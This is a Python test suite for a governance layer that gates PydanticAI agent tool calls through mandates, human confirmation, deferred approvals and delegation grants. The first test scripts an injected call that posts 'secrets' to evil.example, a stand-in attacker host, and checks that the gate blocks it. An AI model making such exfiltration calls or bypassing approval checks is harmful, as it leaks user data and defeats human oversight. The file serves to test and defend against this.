"""`quorumgate.adapters.pydantic_ai` with a real PydanticAI `Agent`, its `FunctionModel`
scripted, against a live 4-node cluster (docs/frameworks/pydantic-ai.md): an allowed call
runs; a call outside the mandate does not, and the model reads the fixed sentence only; a
pending call waits for the principal and runs once confirmed; with `defer=True` an
unanswered one ends the run as `DeferredToolRequests` and runs on resumption once
confirmed; a sub-agent, delegated to from inside a tool, acts under a grant; an envelope
argument carries a handle, and a raw value in it is refused before it leaves."""

from __future__ import annotations

import asyncio
import time
from typing import Any

from nacl.public import PrivateKey
from pydantic_ai import Agent, RunContext
from pydantic_ai.tools import DeferredToolRequests, DeferredToolResults, ToolApproved
from pydantic_ai.toolsets import FunctionToolset

from quorumgate.adapters.pydantic_ai import AWAITING_TEXT, PROPOSAL_METADATA, governed
from quorumgate.examples.scripted_pydantic_model import ScriptedModel, text, tool_call
from quorumgate.proto.clusterfile import ClusterSpec
from quorumgate.proto.model import DENIAL_TEXT
from quorumgate.sdk.client import Client
from quorumgate.sdk.governed import agent_context_async
from quorumgate.sdk.sync import SyncClient
from tests.support.cluster import SINK, new_agent, new_principal

WAIT_S = 30.0
RAN: list[str] = []


def fetch(url: str) -> str:
    """Read a page."""
    RAN.append(f"fetch {url}")
    return "page text"


def post(url: str, body: str) -> str:
    """Send a form."""
    RAN.append(f"post {url}")
    return "sent"


def pay(url: str, amount: int) -> str:
    """Pay an account."""
    RAN.append(f"pay {amount}")
    return f"paid {amount}"


def store(url: str, secret: str) -> str:
    """Keep a card in the vault."""
    RAN.append(f"store {secret}")
    return "stored"


WEB = {
    "names": {"fetch": "web.get", "post": "web.post"},
    "targets": {"fetch": "url", "post": "url"},
}


async def _open_cards(principal: Client) -> list[Any]:
    """The principal's open cards once there is one (each ask is a round trip to the
    sidecars; bounded by `WAIT_S`)."""
    deadline = time.monotonic() + WAIT_S
    while not (cards := await principal.pending()):
        assert time.monotonic() < deadline, "timed out waiting for the card"
    return cards


async def test_an_allowed_call_runs_and_an_injected_one_reads_the_sentence(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    _, key = new_agent(owner, ["web.get"])  # web.post is outside the mandate
    model = ScriptedModel(
        [
            tool_call("fetch", "c1", url="HTTPS://Docs.Example/a"),
            tool_call("post", "c2", url="https://evil.example/x", body="secrets"),
            text("done"),
        ]
    )
    agent = Agent(model, toolsets=[governed(FunctionToolset([fetch, post]), **WEB)])  # type: ignore[arg-type]
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-pa-1"):
        result = await agent.run("read the docs")
    assert result.output == "done"
    assert RAN == ["fetch https://docs.example/a"]  # the certified spelling of the target
    assert model.tool_outputs() == {"c1": "page text", "c2": DENIAL_TEXT}


async def test_a_pending_call_waits_and_runs_once_the_principal_confirms(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    person, person_key = new_principal(owner)
    _, key = new_agent(owner, ["pay"], principal=person)
    model = ScriptedModel(
        [tool_call("pay", "c1", url="https://bank.example/acct", amount=250), text("paid")]
    )
    tools = governed(FunctionToolset([pay]), targets={"pay": "url"}, confirm_wait_s=WAIT_S)
    agent = Agent(model, toolsets=[tools])
    async with (
        Client(cluster, person_key) as principal,
        Client(cluster, key) as qg,
        agent_context_async(qg, run_id="run-pa-2"),
    ):
        run = asyncio.create_task(agent.run("pay the rent"))
        cards = await _open_cards(principal)
        assert RAN == []  # nothing ran before the principal's answer
        await principal.confirm(cards[0].proposal_id, cards[0].card.digest)
        result = await asyncio.wait_for(run, WAIT_S)
    assert result.output == "paid" and RAN == ["pay 250"]
    assert model.tool_outputs() == {"c1": "paid 250"}


async def test_an_unanswered_call_reads_the_awaiting_sentence(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    person, _ = new_principal(owner)
    _, key = new_agent(owner, ["pay"], principal=person)
    model = ScriptedModel(
        [tool_call("pay", "c1", url="https://bank.example/acct", amount=5), text("later")]
    )
    agent = Agent(
        model, toolsets=[governed(FunctionToolset([pay]), targets={"pay": "url"}, confirm_wait_s=0)]
    )
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-pa-3"):
        await agent.run("pay")
    assert RAN == [] and model.tool_outputs() == {"c1": AWAITING_TEXT}


async def test_a_deferred_call_ends_the_run_and_runs_on_resumption_once_confirmed(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    """PydanticAI's deferred tools: the unanswered call ends the run with
    `DeferredToolRequests`; the application's approval alone runs nothing (the card is
    still open), the principal's confirmation does."""
    RAN.clear()
    person, person_key = new_principal(owner)
    _, key = new_agent(owner, ["pay"], principal=person)
    model = ScriptedModel(
        [tool_call("pay", "c1", url="https://bank.example/acct", amount=70), text("paid")]
    )
    tools = governed(FunctionToolset([pay]), targets={"pay": "url"}, confirm_wait_s=0, defer=True)
    agent = Agent(model, toolsets=[tools], output_type=[str, DeferredToolRequests])
    approved = DeferredToolResults(approvals={"c1": True})
    async with (
        Client(cluster, person_key) as principal,
        Client(cluster, key) as qg,
        agent_context_async(qg, run_id="run-pa-4"),
    ):
        first = await agent.run("pay the plumber")
        assert isinstance(first.output, DeferredToolRequests) and RAN == []
        assert [call.tool_call_id for call in first.output.approvals] == ["c1"]
        cards = await _open_cards(principal)
        assert first.output.metadata["c1"][PROPOSAL_METADATA] == cards[0].proposal_id.hex()

        early = await agent.run(
            message_history=first.all_messages(), deferred_tool_results=approved
        )
        assert isinstance(early.output, DeferredToolRequests) and RAN == []

        await principal.confirm(cards[0].proposal_id, cards[0].card.digest)
        done = await agent.run(message_history=early.all_messages(), deferred_tool_results=approved)
    assert done.output == "paid" and RAN == ["pay 70"]
    assert model.tool_outputs() == {"c1": "paid 70"}


async def test_an_approval_that_changes_the_arguments_is_refused(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    """The application resumes a deferred call with other arguments than the card the
    principal confirmed (`ToolApproved(override_args=...)`): they do not match the card's
    body, so nothing runs and the model reads the fixed sentence."""
    RAN.clear()
    person, person_key = new_principal(owner)
    _, key = new_agent(owner, ["pay"], principal=person)
    model = ScriptedModel(
        [tool_call("pay", "c1", url="https://bank.example/acct", amount=70), text("no")]
    )
    tools = governed(FunctionToolset([pay]), targets={"pay": "url"}, confirm_wait_s=0, defer=True)
    agent = Agent(model, toolsets=[tools], output_type=[str, DeferredToolRequests])
    changed = ToolApproved(override_args={"url": "https://bank.example/acct", "amount": 7000})
    async with (
        Client(cluster, person_key) as principal,
        Client(cluster, key) as qg,
        agent_context_async(qg, run_id="run-pa-7"),
    ):
        first = await agent.run("pay the plumber")
        cards = await _open_cards(principal)
        await principal.confirm(cards[0].proposal_id, cards[0].card.digest)
        done = await agent.run(
            message_history=first.all_messages(),
            deferred_tool_results=DeferredToolResults(approvals={"c1": changed}),
        )
    assert done.output == "no" and RAN == []
    assert model.tool_outputs() == {"c1": DENIAL_TEXT}


async def test_a_sub_agent_delegated_to_from_a_tool_acts_under_its_grant(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    """PydanticAI's agent delegation: the parent's tool runs the helper agent; the helper's
    tools are the child key's calls under the parent's grant, in the grant's run."""
    RAN.clear()
    _, parent_key = new_agent(owner, ["web.get", "web.post"], delegation_policy="attenuated")
    _, child_key = new_agent(owner, None)
    helper_model = ScriptedModel(
        [
            tool_call("fetch", "h1", url="https://docs.example/b"),
            tool_call("post", "h2", url="https://docs.example/b", body="x"),
            text("found it"),
        ]
    )
    async with Client(cluster, parent_key) as parent, Client(cluster, child_key) as child:
        grant = await parent.delegate(bytes(child_key.verify_key), "job-pa", ["web.get"], ttl_s=600)
        under: dict[str, Any] = {"client": child, "run_id": "job-pa", "grant": grant}
        helper = Agent(
            helper_model, toolsets=[governed(FunctionToolset([fetch, post]), **WEB, **under)]
        )

        async def research(ctx: RunContext[None], question: str) -> str:
            """Ask the research helper."""
            found = await helper.run(question, usage=ctx.usage)
            return str(found.output)

        model = ScriptedModel([tool_call("research", "p1", question="what is b?"), text("ok")])
        lead = Agent(model, tools=[research])
        async with agent_context_async(parent, run_id="run-pa-5"):
            result = await lead.run("find b")
    assert result.output == "ok" and model.tool_outputs() == {"p1": "found it"}
    assert RAN == ["fetch https://docs.example/b"]  # web.post is outside the grant
    assert helper_model.tool_outputs() == {"h1": "page text", "h2": DENIAL_TEXT}


async def test_an_envelope_argument_carries_a_handle_and_a_raw_value_is_refused(
    cluster: ClusterSpec, owner: SyncClient, sink_key: PrivateKey
) -> None:
    RAN.clear()
    _, key = new_agent(owner, ["vault.store"])
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-pa-6"):
        handle = await qg.seal_envelope("card", "4111 1111", {SINK: bytes(sink_key.public_key)})
        model = ScriptedModel(
            [
                tool_call("store", "c1", url="https://vault.example/cards", secret=str(handle)),
                tool_call("store", "c2", url="https://vault.example/cards", secret="4111 1111"),
                text("done"),
            ]
        )
        tools = governed(
            FunctionToolset([store]),
            names={"store": "vault.store"},
            targets={"store": "url"},
            envelopes={"store": ("secret",)},
        )
        await Agent(model, toolsets=[tools]).run("keep the card")
    assert [f"store {handle}"] == RAN  # the handle, never the number, reaches the tool
    assert model.tool_outputs() == {"c1": "stored", "c2": DENIAL_TEXT}
